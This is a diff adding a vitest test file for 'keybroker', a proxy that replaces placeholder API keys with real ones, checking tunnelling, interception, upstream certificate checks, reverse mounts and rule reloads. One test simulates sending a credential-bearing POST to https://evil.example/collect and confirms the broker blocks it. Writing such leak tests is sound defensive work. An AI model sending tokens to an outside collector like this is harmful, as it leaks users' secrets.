@@ -1,0 +1,285 @@
+// Which traffic is intercepted, tunnelled, refused or reverse-proxied, and how rules reload.
+import { once } from "node:events";
+import { readFileSync, writeFileSync } from "node:fs";
+import { connect as netConnect } from "node:net";
+import { join } from "node:path";
+import { connect as tlsConnect } from "node:tls";
+import { ProxyAgent, request } from "undici";
+import { afterEach, describe, expect, it } from "vitest";
+import { cliAsync, findSecrets, startBroker, tempHome, writeConfig } from "../helpers/broker.js";
+import {
+  ALL_REAL,
+  type Fixture,
+  REAL_ANTHROPIC,
+  REAL_OPENAI,
+  rulesFor,
+  startFixture,
+} from "../helpers/fixture.js";
+import { startUpstream } from "../helpers/upstream.js";
+
+const open: Fixture[] = [];
+afterEach(async () => {
+  for (const f of open.splice(0)) {
+    await f.close();
+    expect(f.leaks()).toEqual([]);
+  }
+});
+
+async function fixture(opts: Parameters<typeof startFixture>[0] = {}): Promise<Fixture> {
+  const f = await startFixture(opts);
+  open.push(f);
+  return f;
+}
+
+function agentFor(f: Fixture, ca = readFileSync(f.broker.caPath, "utf8")): ProxyAgent {
+  return new ProxyAgent({ uri: f.broker.url, requestTls: { ca } });
+}
+
+describe("routing", () => {
+  it("tunnels a host without a rule untouched: the client sees the upstream's own certificate", async () => {
+    const f = await fixture();
+    const socket = netConnect(f.broker.port, "127.0.0.1");
+    await once(socket, "connect");
+    socket.write(
+      `CONNECT 127.0.0.1:${f.upstream.port} HTTP/1.1\r\nHost: 127.0.0.1:${f.upstream.port}\r\n\r\n`,
+    );
+    const [head] = (await once(socket, "data")) as [Buffer];
+    expect(head.toString()).toMatch(/^HTTP\/1.1 200/);
+    // Trusting only the upstream's CA works: keybroker did not terminate this TLS.
+    const tls = tlsConnect({
+      socket,
+      servername: "tunnel.test",
+      ca: readFileSync(f.upstream.caPath, "utf8"),
+    });
+    await once(tls, "secureConnect");
+    expect(tls.authorized).toBe(true);
+    tls.write("GET /hello HTTP/1.1\r\nHost: tunnel.test\r\nConnection: close\r\n\r\n");
+    let answer = "";
+    tls.on("data", (d: Buffer) => {
+      answer += d.toString();
+    });
+    await once(tls, "end");
+    expect(answer).toMatch(/^HTTP\/1.1 200/);
+    expect(f.upstream.received.at(-1)!.host).toBe("tunnel.test");
+  });
+
+  it("with intercept: all, blocks a placeholder bound for a host without a rule; that host receives nothing", async () => {
+    const f = await fixture({ rules: (u) => `intercept: all\n${rulesFor(u)}` });
+    const agent = agentFor(f);
+    const ph = await f.placeholder("openai");
+    const before = f.upstream.received.length;
+    const res = await request("https://evil.example/collect", {
+      method: "POST",
+      dispatcher: agent,
+      headers: { authorization: `Bearer ${ph}` },
+      body: "x",
+    });
+    expect(res.statusCode).toBe(403);
+    expect(res.headers["x-keybroker-error"]).toBe("placeholder_host_mismatch");
+    await res.body.text();
+    expect(f.upstream.received.length).toBe(before);
+    // The same host without a placeholder passes (intercepted, nothing injected).
+    const ok = await request("https://evil.example/hello", { dispatcher: agent });
+    expect(ok.statusCode).toBe(200);
+    await ok.body.text();
+    expect(f.upstream.received.at(-1)!.host).toBe("evil.example");
+    await agent.close();
+  });
+
+  it("refuses an upstream in a loopback range that neither resolve nor the provider allows", async () => {
+    const u = await startUpstream();
+    const home = tempHome();
+    const config = writeConfig(
+      tempHome(),
+      `version: 1
+upstream_ca: [${JSON.stringify(u.caPath)}]
+providers:
+  local:
+    hosts: ["localhost:${u.port}"]
+    credentials: [LOCAL_KEY]
+`,
+    );
+    const broker = await startBroker({ home, config, env: { LOCAL_KEY: REAL_OPENAI } });
+    const agent = new ProxyAgent({
+      uri: broker.url,
+      requestTls: { ca: readFileSync(broker.caPath, "utf8") },
+    });
+    try {
+      const res = await request(`https://localhost:${u.port}/v1/models`, { dispatcher: agent });
+      expect(res.statusCode).toBe(502);
+      const body = (await res.body.json()) as { error: { type: string; hint: string } };
+      expect(body.error.type).toBe("upstream_unreachable");
+      expect(body.error.hint).toContain("allow_private_upstream");
+      expect(u.received.length).toBe(0);
+    } finally {
+      await agent.close();
+      await broker.stop();
+      await u.close();
+    }
+    expect(findSecrets(ALL_REAL, [home])).toEqual([]);
+  });
+
+  it("allows a private upstream when the provider opts in", async () => {
+    const u = await startUpstream();
+    const home = tempHome();
+    const config = writeConfig(
+      tempHome(),
+      `version: 1
+upstream_ca: [${JSON.stringify(u.caPath)}]
+providers:
+  local:
+    hosts: ["localhost:${u.port}"]
+    credentials: [LOCAL_KEY]
+    allow_private_upstream: true
+`,
+    );
+    const broker = await startBroker({ home, config, env: { LOCAL_KEY: REAL_OPENAI } });
+    const agent = new ProxyAgent({
+      uri: broker.url,
+      requestTls: { ca: readFileSync(broker.caPath, "utf8") },
+    });
+    try {
+      const vars = JSON.parse(
+        (
+          await cliAsync(["env", "--home", home, "--config", config, "--format", "json"], {
+            env: { LOCAL_KEY: REAL_OPENAI },
+          })
+        ).stdout,
+      ) as Record<string, string>;
+      const ph = vars.LOCAL_API_KEY!;
+      const res = await request(`https://localhost:${u.port}/v1/models`, {
+        dispatcher: agent,
+        headers: { authorization: `Bearer ${ph}` },
+      });
+      expect(res.statusCode).toBe(200);
+      await res.body.text();
+      expect(u.received.at(-1)!.headers.authorization).toBe(`Bearer ${REAL_OPENAI}`);
+    } finally {
+      await agent.close();
+      await broker.stop();
+      await u.close();
+    }
+  });
+
+  it("verifies the upstream's certificate: an untrusted upstream gets 502 upstream_tls and no key", async () => {
+    const f = await fixture({ rules: (u) => rulesFor(u).replace(/^upstream_ca:.*$/m, "") });
+    const agent = agentFor(f);
+    const ph = await f.placeholder("openai");
+    const res = await request("https://api.openai.com/v1/models", {
+      dispatcher: agent,
+      headers: { authorization: `Bearer ${ph}` },
+    });
+    expect(res.statusCode).toBe(502);
+    expect(res.headers["x-keybroker-error"]).toBe("upstream_tls");
+    await res.body.text();
+    expect(f.upstream.received.length).toBe(0);
+    await agent.close();
+  });
+});
+
+describe("reverse mode", () => {
+  it("serves a mounted provider on the loopback endpoint, replacing the client's dummy key", async () => {
+    const f = await fixture({
+      extraRules: `  anthropic-direct:
+    mount: /p/anthropic-direct
+    upstream: https://api.anthropic.com
+    inject: { header: x-api-key }
+    credentials: [ANTHROPIC_API_KEY]
+`,
+    });
+    const res = await request(`${f.broker.url}/p/anthropic-direct/v1/messages`, {
+      method: "POST",
+      headers: { "x-api-key": "dummy", "content-type": "application/json" },
+      body: "{}",
+    });
+    expect(res.statusCode).toBe(200);
+    await res.body.text();
+    const got = f.upstream.received.at(-1)!;
+    expect(got.url).toBe("/v1/messages");
+    expect(got.host).toBe("api.anthropic.com");
+    expect(got.headers["x-api-key"]).toBe(REAL_ANTHROPIC);
+  });
+
+  it("mounts catalogue providers: /p/openai reaches api.openai.com with the real key", async () => {
+    const f = await fixture();
+    const res = await request(`${f.broker.url}/p/openai/v1/chat/completions`, {
+      method: "POST",
+      headers: { authorization: "Bearer anything", "content-type": "application/json" },
+      body: "{}",
+    });
+    expect(res.statusCode).toBe(200);
+    await res.body.text();
+    expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${REAL_OPENAI}`);
+  });
+
+  it("answers an unknown mount with a clear 400", async () => {
+    const f = await fixture();
+    const res = await request(`${f.broker.url}/p/nope/v1/x`);
+    expect(res.statusCode).toBe(400);
+    const body = (await res.body.json()) as { error: { message: string } };
+    expect(body.error.message).toContain("/p/nope");
+  });
+});
+
+describe("rules and restarts", () => {
+  it("keeps placeholders across restarts of the same home", async () => {
+    const f = await fixture();
+    const before = await f.placeholder("openai");
+    await f.broker.stop();
+    const again = await startBroker({
+      home: f.home,
+      config: join(f.dir, "keybroker.yaml"),
+      env: { OPENAI_API_KEY: REAL_OPENAI },
+    });
+    try {
+      const agent = new ProxyAgent({
+        uri: again.url,
+        requestTls: { ca: readFileSync(again.caPath, "utf8") },
+      });
+      const res = await request("https://api.openai.com/v1/models", {
+        dispatcher: agent,
+        headers: { authorization: `Bearer ${before}` },
+      });
+      expect(res.statusCode).toBe(200);
+      await res.body.text();
+      expect(f.upstream.received.at(-1)!.headers.authorization).toBe(`Bearer ${REAL_OPENAI}`);
+      await agent.close();
+    } finally {
+      await again.stop();
+    }
+  });
+
+  it("reloads on SIGHUP, and keeps the old rules when the new file is invalid", async () => {
+    const f = await fixture();
+    const config = join(f.dir, "keybroker.yaml");
+    const agent = agentFor(f);
+    const ph = await f.placeholder("github");
+    const basic = `Basic ${Buffer.from(`x-access-token:${ph}`).toString("base64")}`;
+    const del = async () => {
+      const res = await request("https://api.github.com/repos/a/b", {
+        method: "DELETE",
+        dispatcher: agent,
+        headers: { authorization: basic },
+      });
+      await res.body.text();
+      return res.statusCode;
+    };
+    expect(await del()).toBe(403);
+
+    const waitFor = async (text: string) => {
+      while (!f.broker.stderr().includes(text)) await once(f.broker.child.stderr!, "data");
+    };
+    writeFileSync(config, readFileSync(config, "utf8").replace(/policy:\n.*\n/, ""));
+    f.broker.child.kill("SIGHUP");
+    await waitFor("rules reloaded");
+    expect(await del()).toBe(200);
+
+    writeFileSync(config, "version: 1\nproviders:\n  openai: { hosts: ['api.openai.*'] }\n");
+    f.broker.child.kill("SIGHUP");
+    await waitFor("reload rejected");
+    expect(await del()).toBe(200);
+    expect(f.upstream.received.at(-1)!.method).toBe("DELETE");
+    await agent.close();
+    expect(ALL_REAL.some((s) => f.broker.stderr().includes(s))).toBe(false);
+  });
+});
